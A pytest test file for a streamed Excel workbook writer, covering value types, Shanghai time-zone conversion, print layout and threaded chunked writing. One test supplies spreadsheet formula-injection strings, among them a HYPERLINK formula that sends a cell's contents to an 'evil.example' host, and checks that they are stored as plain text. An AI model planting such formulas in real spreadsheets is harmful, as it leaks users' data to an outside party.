"""The streamed workbook writer (casework.xlsx): what it writes reads back, in openpyxl as in
Excel, with every kind of value, the print settings, and nothing typed turned into a formula."""

from __future__ import annotations

import datetime as dt
import io
import threading
import uuid
import zipfile
from collections.abc import Iterator
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from casework.xlsx import column_letter, table_write

NAMES = ["序号", "编号", "情况", "日期", "时间", "金额", "数", "是否"]


def written(rows: list[list[object]], **options: object):  # type: ignore[no-untyped-def]
    output = io.BytesIO()
    count = table_write(
        output,
        title=options.pop("title", "台账"),  # type: ignore[arg-type]
        names=NAMES,
        rows=rows,
        widths=[6, 20, 40, 12, 16, 12, 12, 8],
        wrapped={2},
        **options,  # type: ignore[arg-type]
    )
    output.seek(0)
    return count, load_workbook(output), output


def test_every_kind_of_value_reads_back_as_written() -> None:
    moment = dt.datetime(2026, 11, 30, 1, 30, tzinfo=dt.UTC)  # 09:30 in Ji'an
    rows = [
        [1, "X-1", "第一行\n第二行", dt.date(2026, 3, 1), moment, Decimal("12.50"), 3, True],
        [2, "X-2", None, None, None, 0.5, None, False],
        [3, "<&>\"'", "Word\x0b换行\x01", dt.date(1999, 12, 31), None, Decimal("0"), -4, None],
    ]
    count, book, _ = written(rows)
    sheet = book.worksheets[0]
    assert count == 3 and sheet.title == "台账"
    values = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert values[0] == NAMES
    assert values[1] == [
        1,
        "X-1",
        "第一行\n第二行",
        dt.datetime(2026, 3, 1),
        dt.datetime(2026, 11, 30, 9, 30),  # the moment in Asia/Shanghai, as people read it
        12.5,
        3,
        True,
    ]
    assert values[2] == [2, "X-2", None, None, None, 0.5, None, False]
    assert values[3] == [3, "<&>\"'", "Word\n换行", dt.datetime(1999, 12, 31), None, 0, -4, None]
    assert sheet["D2"].number_format == "yyyy-mm-dd"
    assert sheet["E2"].number_format == "yyyy-mm-dd hh:mm"
    assert sheet["C2"].alignment.wrap_text and not sheet["B2"].alignment.wrap_text


def test_typed_text_is_never_a_formula() -> None:
    typed = ['=HYPERLINK("http://evil.example/?d="&B2,"x")', "+1", "-1", "@SUM(1)", "=1+1"]
    _, book, output = written(
        [[n, text, text, None, None, None, None, None] for n, text in enumerate(typed, start=1)]
    )
    sheet = book.worksheets[0]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row[1:3]]
    assert [c.value for c in cells[::2]] == typed
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    with zipfile.ZipFile(output) as parts:
        assert b"<f>" not in parts.read("xl/worksheets/sheet1.xml")


def test_the_sheet_is_ready_to_print_with_or_without_a_heading() -> None:
    rows = [[n, f"X-{n}", "", None, None, None, None, None] for n in range(1, 6)]
    _, book, _ = written(rows, heading="第三轮督察第9批公开情况一览表", title="公开's 表")
    sheet = book.worksheets[0]
    assert sheet.title == "公开's 表"
    assert sheet["A1"].value == "第三轮督察第9批公开情况一览表"
    assert (sheet["A1"].font.bold, sheet["A1"].font.size) == (True, 14)
    assert (
        sheet["A1"].alignment.horizontal == sheet["H1"].alignment.horizontal == ("centerContinuous")
    )
    assert sheet["C2"].font.bold and sheet["C2"].fill.fgColor.rgb == "FFDDEBF7"
    assert sheet.freeze_panes == "B3"
    assert sheet.auto_filter.ref == "A2:H7"
    assert sheet.print_title_rows == "$2:$2"
    assert sheet.column_dimensions["C"].width == 40
    assert sheet.page_setup.orientation == "landscape" and sheet.page_setup.paperSize == 9  # A4
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    count, plain, _ = written([])
    assert count == 0 and plain.worksheets[0].freeze_panes == "B2"
    assert [list(r) for r in plain.worksheets[0].iter_rows(values_only=True)] == [NAMES]


def test_column_letters() -> None:
    assert [column_letter(n) for n in (1, 26, 27, 52, 703)] == ["A", "Z", "AA", "AZ", "AAA"]


def test_a_moment_is_written_in_jian_whatever_the_zone_it_came_in() -> None:
    moment = dt.datetime(2026, 1, 1, 23, 0, tzinfo=ZoneInfo("America/New_York"))
    _, book, _ = written([[1, "", "", None, moment, None, None, None]])
    assert book.worksheets[0]["E2"].value == dt.datetime(2026, 1, 2, 12, 0)


def test_many_rows_come_out_in_order_and_a_failure_reaches_the_caller() -> None:
    """The sheet is written in chunks by a thread of its own: every row arrives, in order, and
    a full disk (or a database gone mid-export) is the caller's error, with no thread left."""
    rows = [
        [n, uuid.UUID(int=n), f"第{n}件" * 5, dt.date(2026, 1, 1), None, n / 4, n, n % 2 == 0]
        for n in range(1, 1601)  # several chunks
    ]
    count, book, _ = written(rows)
    values = list(book.worksheets[0].iter_rows(min_row=2, values_only=True))
    assert count == 1600 and [v[0] for v in values] == list(range(1, 1601))
    assert values[-1][1] == str(uuid.UUID(int=1600)) and values[-1][2] == "第1600件" * 5

    class Full(io.BytesIO):  # fails once, mid-sheet: the chunk is lost, so must the file be
        failed = False

        def write(self, data: bytes) -> int:  # type: ignore[override]
            if self.tell() > 10_000 and not self.failed:
                self.failed = True
                raise OSError("No space left on device")
            return super().write(data)

    options: dict[str, object] = {"title": "台账", "names": NAMES, "widths": [12] * 8}
    with pytest.raises(OSError, match="No space left"):
        table_write(Full(), rows=rows, wrapped=set(), **options)  # type: ignore[arg-type]

    def cut_off() -> Iterator[list[object]]:
        yield from rows[:700]
        raise RuntimeError("the database went away")

    with pytest.raises(RuntimeError, match="went away"):
        table_write(io.BytesIO(), rows=cut_off(), wrapped=set(), **options)  # type: ignore[arg-type]
    assert not [t for t in threading.enumerate() if t.name == "xlsx-writer"]
